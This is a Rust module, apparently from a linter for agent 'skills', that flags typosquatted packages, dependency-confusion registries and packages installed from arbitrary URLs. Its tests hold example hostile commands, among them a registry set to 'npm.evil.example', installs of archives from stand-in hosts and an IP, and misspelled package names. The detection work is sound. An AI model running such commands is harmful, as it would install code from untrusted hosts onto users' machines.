//! Packages a skill installs: typosquats (a name one edit away from a popular package that is
//! not popular itself) and dependency confusion (an index or registry on a host that is not a
//! known public registry). The popular names ship with the binary, built from public download
//! counts by `tools/popular-packages.py`.

use std::collections::HashSet;
use std::sync::LazyLock;

use crate::lint::rx::Regex;

use super::Hit;
use crate::lint::exec::ascii_regex;
use crate::lint::rules;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Eco {
    PyPI,
    Npm,
}

struct Popular {
    /// Every listed name.
    all: HashSet<&'static str>,
    /// The most popular ones, which typosquats aim at.
    targets: NearNames,
}

/// A list of names, searched for the first one a slip of the finger away from a given name
/// ([`one_slip`]) without comparing it with every entry: a slip changes a name's length by at
/// most one, so the names are grouped by length (each group in list order).
pub struct NearNames {
    by_len: std::collections::HashMap<usize, Vec<(usize, &'static str)>>,
}

impl NearNames {
    pub fn new(names: impl IntoIterator<Item = &'static str>) -> Self {
        let mut by_len: std::collections::HashMap<usize, Vec<(usize, &'static str)>> =
            std::collections::HashMap::new();
        for (order, name) in names.into_iter().enumerate() {
            by_len.entry(name.len()).or_default().push((order, name));
        }
        NearNames { by_len }
    }

    /// The first name of the list one slip away from `name` (its length in bytes within one of
    /// `name`'s) that `accept` takes.
    pub fn first(&self, name: &str, accept: impl Fn(&str) -> bool) -> Option<&'static str> {
        (name.len().saturating_sub(1)..=name.len() + 1)
            .filter_map(|len| self.by_len.get(&len))
            .filter_map(|group| {
                group
                    .iter()
                    .find(|(_, near)| one_slip(near, name) && accept(near))
            })
            .min_by_key(|(order, _)| *order)
            .map(|(_, near)| *near)
    }
}

/// Whether `a` and `b` are one slip apart: one character inserted, dropped or replaced, or two
/// neighbours swapped (an optimal string alignment distance of exactly 1).
pub fn one_slip(a: &str, b: &str) -> bool {
    if !(a.is_ascii() && b.is_ascii()) {
        return strsim::osa_distance(a, b) == 1;
    }
    let (a, b) = (a.as_bytes(), b.as_bytes());
    let prefix = a.iter().zip(b).take_while(|(x, y)| x == y).count();
    match a.len().cmp(&b.len()) {
        std::cmp::Ordering::Equal => {
            if prefix == a.len() {
                return false;
            }
            let suffix = a
                .iter()
                .rev()
                .zip(b.iter().rev())
                .take_while(|(x, y)| x == y)
                .count();
            let last = a.len() - 1 - suffix;
            last == prefix || (last == prefix + 1 && a[prefix] == b[last] && a[last] == b[prefix])
        }
        std::cmp::Ordering::Less => b.len() == a.len() + 1 && a[prefix..] == b[prefix + 1..],
        std::cmp::Ordering::Greater => a.len() == b.len() + 1 && b[prefix..] == a[prefix + 1..],
    }
}

/// Names a squat aims at: the most downloaded of each list.
const TARGETS: usize = 2000;

fn load(list: &'static str) -> Popular {
    let names: Vec<&'static str> = list.lines().filter(|l| !l.is_empty()).collect();
    Popular {
        all: names.iter().copied().collect(),
        targets: NearNames::new(names.iter().take(TARGETS).copied().filter(|n| n.len() >= 5)),
    }
}

static PYPI: LazyLock<Popular> = LazyLock::new(|| load(include_str!("popular/pypi.txt")));
static NPM: LazyLock<Popular> = LazyLock::new(|| load(include_str!("popular/npm.txt")));

/// A `PyPI` name as the index compares names (PEP 503).
fn pypi_norm(name: &str) -> String {
    let mut out = String::with_capacity(name.len());
    let mut sep = false;
    for c in name.chars() {
        if matches!(c, '-' | '_' | '.') {
            sep = true;
            continue;
        }
        if sep && !out.is_empty() {
            out.push('-');
        }
        sep = false;
        out.push(c.to_ascii_lowercase());
    }
    out
}

/// The popular package `name` imitates, if it is one edit (insert, delete, replace, swap)
/// away from one and is not popular itself.
pub fn squatted(name: &str, eco: Eco) -> Option<&'static str> {
    let (popular, name) = match eco {
        Eco::PyPI => (&*PYPI, pypi_norm(name)),
        Eco::Npm => (&*NPM, name.to_ascii_lowercase()),
    };
    if name.len() < 5 || popular.all.contains(name.as_str()) || name.starts_with('@') {
        return None;
    }
    // `pkg2`, `pkg-cli`: a version or a sibling, not a slip of the finger.
    popular
        .targets
        .first(&name, |target| !differs_by_digit(target, &name))
}

fn differs_by_digit(a: &str, b: &str) -> bool {
    let (long, short) = if a.len() > b.len() { (a, b) } else { (b, a) };
    long.len() == short.len() + 1
        && (long.starts_with(short) || long.ends_with(short))
        && long
            .chars()
            .find(|c| !short.contains(*c) || c.is_ascii_digit())
            .is_some_and(|c| c.is_ascii_digit())
}

static INSTALL: LazyLock<Regex> = LazyLock::new(|| {
    ascii_regex(
        r"(?x)(?P<pypi>\b(python[0-9.]*\s+-m\s+)?pip[0-9.]*\s+install\b|\buv\s+pip\s+install\b|\buv\s+add\b|\buv\s+tool\s+install\b|\buvx\s|\bpipx\s+(install|run)\b|\bpoetry\s+add\b|\bpdm\s+add\b|\brye\s+add\b|\beasy_install\b)
        |(?P<npm>\bnpm\s+(install|i|add)\b|\byarn\s+(global\s+)?add\b|\bpnpm\s+(add|install|i)\b|\bbun\s+(add|install|i)\b|\bnpx\s|\bbunx\s|\bpnpm\s+dlx\b)",
    )
});

/// Names that say they belong to a company, not to the public registry.
static INTERNAL: LazyLock<Regex> = LazyLock::new(|| {
    ascii_regex(
        r"(^|[-_./@])(internal|corp|corporate|private|intranet|company|inhouse|in-house)([-_./]|$)",
    )
});

/// Options whose value is the next word.
const VALUE_OPTIONS: &[&str] = &[
    "-r",
    "-c",
    "-e",
    "-i",
    "-f",
    "-t",
    "--requirement",
    "--constraint",
    "--index-url",
    "--extra-index-url",
    "--find-links",
    "--target",
    "--prefix",
    "--root",
    "--python",
    "-p",
    "--platform",
    "--registry",
    "--index",
    "--default-index",
    "-w",
    "--workspace",
    "--save-prefix",
    "--cache",
    "--cache-dir",
    "--with",
    "--from",
    "--package",
    "-g",
    "--group",
];

/// Options whose value is an index or registry URL.
const INDEX_OPTIONS: &[&str] = &[
    "-i",
    "--index-url",
    "--extra-index-url",
    "--registry",
    "--index",
    "--default-index",
];

static REGISTRY_SETTING: LazyLock<Regex> = LazyLock::new(|| {
    ascii_regex(
        r#"(?ix)\b(PIP_INDEX_URL|PIP_EXTRA_INDEX_URL|UV_INDEX_URL|UV_EXTRA_INDEX_URL|UV_INDEX|UV_DEFAULT_INDEX|NPM_CONFIG_REGISTRY|YARN_REGISTRY)\s*=\s*["']?(?P<a>\S+)
        |\b(npm|yarn|pnpm)\s+config\s+set\s+(@[\w-]+:)?registry\s+["']?(?P<b>\S+)|\bnpmRegistryServer\s*:\s*["']?(?P<c>\S+)
        |(^|\\n|\s|["'])(@[\w-]+:)?registry\s*=\s*["']?(?P<d>[^\s\\'"]+)|(^|\\n|\s|["'])(extra-)?index-url\s*=\s*["']?(?P<e>[^\s\\'"]+)|\bgem\s+sources\s+(-a|--add)\s+(?P<f>\S+)
        |\bpoetry\s+source\s+add\s+(--\S+\s+)*[\w.-]+\s+(?P<g>\S+)|\bsource\s+add\s+--\S+\s+(?P<h>https?://\S+)|^\s*url\s*=\s*["'](?P<i>https?://[^"']+/simple/?)["']"#,
    )
});

/// Public registries and well-known mirrors and extra indexes.
const PUBLIC_REGISTRIES: &[&str] = &[
    "pypi.org",
    "files.pythonhosted.org",
    "test.pypi.org",
    "pypi.python.org",
    "download.pytorch.org",
    "pypi.nvidia.com",
    "pypi.ngc.nvidia.com",
    "data.pyg.org",
    "registry.npmjs.org",
    "registry.yarnpkg.com",
    "registry.npmmirror.com",
    "npm.pkg.github.com",
    "rubygems.org",
    "crates.io",
    "index.crates.io",
    "static.crates.io",
    "jsr.io",
    "pypi.tuna.tsinghua.edu.cn",
    "mirrors.aliyun.com",
    "repo.anaconda.com",
    "conda.anaconda.org",
    "pypi.anaconda.org",
    "wheels.myhloli.com",
    "localhost",
    "127.0.0.1",
    "[::1]",
    "0.0.0.0",
];

fn host_of(url: &str) -> Option<String> {
    let url = url.trim_matches(|c: char| "'\"`,;)".contains(c));
    let rest = url.split_once("://").map_or(url, |(_, r)| r);
    let host = rest.split(['/', '?', '#']).next()?;
    let host = host.rsplit('@').next()?;
    let host = if host.starts_with('[') {
        host.split(']').next().map(|h| format!("{h}]"))?
    } else {
        host.split(':').next()?.to_owned()
    };
    let host = host.to_ascii_lowercase();
    (host.contains('.') || host == "localhost" || host.starts_with('[')).then_some(host)
}

fn public(host: &str) -> bool {
    super::reputation::under_any(host, PUBLIC_REGISTRIES)
}

fn confusion(hits: &mut Vec<Hit>, at: usize, url: &str, quoted: Option<&'static str>) {
    let Some(host) = host_of(url) else {
        return;
    };
    // `artifactory.<their-company>.com`, `{your-org}.jfrog.io`: a placeholder the user fills in
    // with their own index names no index a skill chose.
    let placeholder = host.contains(['<', '>', '{', '}', '$'])
        || host.split(['.', '-']).any(|w| {
            matches!(
                w,
                "your" | "their" | "yourcompany" | "yourorg" | "mycompany"
            )
        });
    if public(&host) || placeholder || url.starts_with('$') || url.starts_with("${") {
        return;
    }
    hits.push(Hit {
        rule: &rules::DEPENDENCY_CONFUSION,
        at,
        message: format!(
            "packages are installed from `{host}`, which is not a public registry: a package there can stand in for one of the same name"
        ),
        help: "install from the public registry, or name the private index in your own configuration rather than in a skill",
        quoted,
    });
}

/// Hosts of source code, whose archives and releases can be tied to a repository.
const CODE_HOSTS: &[&str] = &[
    "github.com",
    "codeload.github.com",
    "objects.githubusercontent.com",
    "gitlab.com",
    "bitbucket.org",
    "pkg.pr.new",
];

/// A package installed straight from a URL (`npx https://…/x.tgz`, `pip install https://…whl`)
/// on a host that is neither a registry nor a code host: its install scripts (or its `bin`, for
/// `npx`) run whatever that server sends, and no registry has ever seen it.
fn archive(
    hits: &mut Vec<Hit>,
    at: usize,
    command: &str,
    word: &str,
    quoted: Option<&'static str>,
) {
    let url = word.trim_matches(|c: char| "'\"`".contains(c));
    let Some((scheme, _)) = url.split_once("://") else {
        return;
    };
    if !matches!(scheme, "http" | "https") {
        return;
    }
    let Some(host) = host_of(url) else {
        return;
    };
    let known = public(&host) || super::reputation::under_any(&host, CODE_HOSTS);
    if known && scheme == "https" {
        return;
    }
    hits.push(Hit {
        rule: &rules::DROPPER,
        at,
        message: format!(
            "`{command}` installs the package at `{}`, on `{host}`, which is neither a package registry nor a code host: it runs whatever that server sends",
            crate::lint::exec::excerpt(url)
        ),
        help: "install the package by name from the public registry, or from its repository's release",
        quoted,
    });
}

fn squat(hits: &mut Vec<Hit>, at: usize, name: &str, eco: Eco, quoted: Option<&'static str>) {
    if let Some(target) = squatted(name, eco) {
        let registry = match eco {
            Eco::PyPI => "PyPI",
            Eco::Npm => "npm",
        };
        hits.push(Hit {
            rule: &rules::TYPOSQUAT,
            at,
            message: format!(
                "`{name}` is one letter away from the popular {registry} package `{target}` and is not popular itself"
            ),
            help: "check the spelling: typosquatted packages run their install scripts as the user",
            quoted,
        });
    }
}

#[expect(
    clippy::case_sensitive_file_extension_comparisons,
    reason = "installers spell these extensions in lower case"
)]
/// The bare package name of an install argument, or `None` for a path, URL or file.
fn package_name(arg: &str, eco: Eco) -> Option<&str> {
    let arg = arg.trim_matches(|c: char| "'\"`".contains(c));
    if arg.is_empty()
        || arg.starts_with(['.', '/', '~', '$', '-', '<', '>', '{'])
        || arg.contains("://")
        || arg.contains("git+")
        || arg.ends_with(".whl")
        || arg.ends_with(".tar.gz")
        || arg.ends_with(".zip")
        || arg.ends_with(".tgz")
        || arg.ends_with(".txt")
    {
        return None;
    }
    let name = match eco {
        Eco::PyPI => arg
            .split(['[', '=', '>', '<', '~', '!', ';', '@', ' ', ','])
            .next()?,
        Eco::Npm => {
            // A version after the name (`pkg@1`, `@scope/pkg@1`): the first `@` past the
            // first character, which may be any character (CJK text after `npm install`).
            let first = arg.chars().next().map_or(0, char::len_utf8);
            match arg[first..].find('@') {
                Some(i) => &arg[..first + i],
                None => arg,
            }
        }
    };
    let ok = !name.is_empty()
        && name
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.' | b'@' | b'/'));
    (ok && (eco == Eco::Npm || !name.contains('/'))).then_some(name)
}

/// Install commands and registry settings in one statement's `code` at file offset `at`.
pub fn scan(code: &str, at: usize, quoted: Option<&'static str>, hits: &mut Vec<Hit>) {
    for c in REGISTRY_SETTING.captures_iter(code) {
        if let Some(url) = ["a", "b", "c", "d", "e", "f", "g", "h", "i"]
            .iter()
            .find_map(|g| c.name(g))
        {
            confusion(hits, at, url.as_str(), quoted);
        }
    }
    for m in INSTALL.captures_iter(code) {
        let eco = if m.name("pypi").is_some() {
            Eco::PyPI
        } else {
            Eco::Npm
        };
        let whole = m.get(0).map_or(0..0, |x| x.range());
        let rest = &code[whole.end..];
        let end = rest
            .find(['&', ';', '|', '\n', ')', '#'])
            .unwrap_or(rest.len());
        let private_index = rest[..end]
            .split_whitespace()
            .any(|w| INDEX_OPTIONS.contains(&w.split('=').next().unwrap_or(w)));
        let mut words = rest[..end].split_whitespace();
        let command = code[whole.clone()].trim();
        let npx = ["npx", "bunx", "uvx", "pnpm dlx", "pipx run"]
            .iter()
            .any(|runner| command.starts_with(runner));
        while let Some(word) = words.next() {
            if let Some((opt, value)) = word.split_once('=')
                && opt.starts_with('-')
            {
                if INDEX_OPTIONS.contains(&opt) {
                    confusion(hits, at, value, quoted);
                }
                continue;
            }
            if VALUE_OPTIONS.contains(&word) {
                if let Some(value) = words.next()
                    && INDEX_OPTIONS.contains(&word)
                {
                    confusion(hits, at, value, quoted);
                }
                continue;
            }
            archive(hits, at, command, word, quoted);
            if let Some(name) = package_name(word, eco) {
                squat(hits, at, name, eco, quoted);
                if INTERNAL.is_match(name) && !private_index {
                    hits.push(Hit {
                        rule: &rules::DEPENDENCY_CONFUSION,
                        at,
                        message: format!(
                            "`{name}` looks like an internal package and is installed from the public registry, where anyone can publish that name"
                        ),
                        help: "install internal packages from your own index, configured outside the skill",
                        quoted,
                    });
                }
            }
            // `npx tool args…`: only the tool is a package.
            if npx && !word.starts_with('-') {
                break;
            }
        }
    }
}

#[expect(
    clippy::case_sensitive_file_extension_comparisons,
    reason = "pip reads `requirements*.txt` in lower case"
)]
/// Dependencies a manifest declares: `requirements*.txt` lines and `package.json` keys.
pub fn scan_manifest(rel: &str, text: &str, hits: &mut Vec<Hit>) {
    let name = rel.rsplit('/').next().unwrap_or(rel);
    if name.starts_with("requirements") && name.ends_with(".txt") {
        let mut offset = 0;
        for line in text.split_inclusive('\n') {
            let t = line.trim();
            if let Some(opt) = t
                .strip_prefix("--extra-index-url")
                .or_else(|| t.strip_prefix("--index-url"))
                .or_else(|| t.strip_prefix("-i "))
            {
                confusion(hits, offset, opt.trim_start_matches('=').trim(), None);
            } else if let Some(name) = package_name(t, Eco::PyPI) {
                squat(hits, offset, name, Eco::PyPI, None);
            }
            offset += line.len();
        }
    } else if name == "package.json" {
        static DEP: LazyLock<Regex> = LazyLock::new(|| {
            ascii_regex(
                r#""(dependencies|devDependencies|optionalDependencies|peerDependencies)"\s*:\s*\{([^}]*)\}"#,
            )
        });
        static KEY: LazyLock<Regex> = LazyLock::new(|| ascii_regex(r#""([^"]+)"\s*:"#));
        for deps in DEP.captures_iter(text) {
            let Some(body) = deps.get(2) else { continue };
            for key in KEY.captures_iter(body.as_str()) {
                let Some(k) = key.get(1) else { continue };
                squat(hits, body.start() + k.start(), k.as_str(), Eco::Npm, None);
            }
        }
    } else if name == ".npmrc" || name == "pip.conf" || name == ".yarnrc.yml" || name == "uv.toml" {
        let mut offset = 0;
        for line in text.split_inclusive('\n') {
            scan(line, offset, None, hits);
            offset += line.len();
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_are_cut_at_char_boundaries() {
        // `npm install` followed by CJK text made `lint` panic (a slice inside a character).
        for arg in ["中文包", "中@1", "é", "@中/包@2", "𝒜"] {
            let _ = package_name(arg, Eco::Npm);
            let _ = package_name(arg, Eco::PyPI);
        }
        assert_eq!(package_name("lodash@4", Eco::Npm), Some("lodash"));
        assert_eq!(package_name("@scope/pkg@1", Eco::Npm), Some("@scope/pkg"));
        assert_eq!(package_name("@scope/pkg", Eco::Npm), Some("@scope/pkg"));
        let mut hits = Vec::new();
        scan("npm install 中文的工具包 --save\n", 0, None, &mut hits);
    }

    #[test]
    fn one_slip_is_an_edit_distance_of_one() {
        for (a, b) in [
            ("requests", "reqeusts"),
            ("requests", "requets"),
            ("requests", "requestss"),
            ("lodash", "lodahs"),
            ("lodash", "lodasg"),
            ("lodash", "xlodash"),
            ("skill-creator", "skil-creator"),
            ("café", "cafe"),
        ] {
            assert!(one_slip(a, b), "{a} {b}");
            assert!(one_slip(b, a), "{b} {a}");
        }
        for (a, b) in [
            ("requests", "requests"),
            ("requests", "reqeustz"),
            ("lodash", "ldoahs"),
            ("lodash", "lodashxy"),
            ("abcd", "badc"),
            ("", ""),
        ] {
            assert!(!one_slip(a, b), "{a} {b}");
        }
    }

    proptest::proptest! {
        #[test]
        fn one_slip_agrees_with_the_distance(a in "[a-c-]{0,6}", b in "[a-c-]{0,6}|[a-cé]{0,4}") {
            proptest::prop_assert_eq!(one_slip(&a, &b), strsim::osa_distance(&a, &b) == 1);
        }
    }

    #[test]
    fn typosquats() {
        assert_eq!(squatted("reqeusts", Eco::PyPI), Some("requests"));
        assert_eq!(squatted("requets", Eco::PyPI), Some("requests"));
        assert_eq!(squatted("lodahs", Eco::Npm), Some("lodash"));
        assert_eq!(squatted("requests", Eco::PyPI), None);
        assert_eq!(squatted("python-docx", Eco::PyPI), None);
        assert_eq!(squatted("Python_Docx", Eco::PyPI), None);
        assert_eq!(squatted("pypdf", Eco::PyPI), None);
        assert_eq!(squatted("express", Eco::Npm), None);
        for common in [
            "openpyxl",
            "pdfplumber",
            "reportlab",
            "playwright",
            "beautifulsoup4",
            "pandas",
            "matplotlib",
            "pillow",
            "anthropic",
            "openai",
            "markitdown",
            "pytest",
            "httpx",
        ] {
            assert_eq!(squatted(common, Eco::PyPI), None, "{common}");
        }
        for common in [
            "typescript",
            "react",
            "docx",
            "pptxgenjs",
            "sharp",
            "playwright",
            "zod",
        ] {
            assert_eq!(squatted(common, Eco::Npm), None, "{common}");
        }
    }

    fn codes(code: &str) -> Vec<&'static str> {
        let mut hits = Vec::new();
        scan(code, 0, None, &mut hits);
        hits.iter().map(|h| h.rule.code).collect()
    }

    #[test]
    fn install_commands() {
        assert_eq!(codes("pip install reqeusts==2.0"), ["security/typosquat"]);
        assert_eq!(codes("npm i lodahs --save"), ["security/typosquat"]);
        assert_eq!(codes("pip install requests pandas"), Vec::<&str>::new());
        assert_eq!(
            codes(
                "pip install --extra-index-url https://pkgs.corp-internal.example/simple acme-utils"
            ),
            ["security/dependency-confusion"]
        );
        assert_eq!(
            codes("pip install torch --index-url https://download.pytorch.org/whl/cpu"),
            Vec::<&str>::new()
        );
        assert_eq!(
            codes("npm config set registry https://npm.evil.example/"),
            ["security/dependency-confusion"]
        );
        assert_eq!(
            codes("npx -y create-next-app@latest my-app"),
            Vec::<&str>::new()
        );
        assert_eq!(
            codes("pip install finops-internal-tagging==0.0.9"),
            ["security/dependency-confusion"]
        );
    }

    #[test]
    fn packages_from_urls() {
        for bad in [
            "npx -y https://cdn.apigen-tools.example/openapi-gen-2.4.1.tgz generate ./openapi.yaml",
            "pip install https://wheels.example.net/fasttool-1.0-py3-none-any.whl",
            "npm install http://203.0.113.9/pkg.tgz",
            "pip install http://github.com/o/r/archive/main.zip",
        ] {
            assert_eq!(codes(bad), ["security/dropper"], "{bad}");
        }
        for good in [
            "npx -y mcp-remote https://mcp.linear.app/sse",
            "pip install https://github.com/explosion/spacy-models/releases/download/en_core_web_sm-3.7.1/en_core_web_sm-3.7.1-py3-none-any.whl",
            "npm install https://codeload.github.com/o/r/tar.gz/main",
            "pip install https://download.pytorch.org/whl/cpu/torch-2.3.0-cp311-none-linux_x86_64.whl",
            "npx skills install https://github.com/vercel-labs/react-view-transitions-skill",
            "pip install git+https://github.com/o/r.git",
        ] {
            assert_eq!(codes(good), Vec::<&str>::new(), "{good}");
        }
    }
}
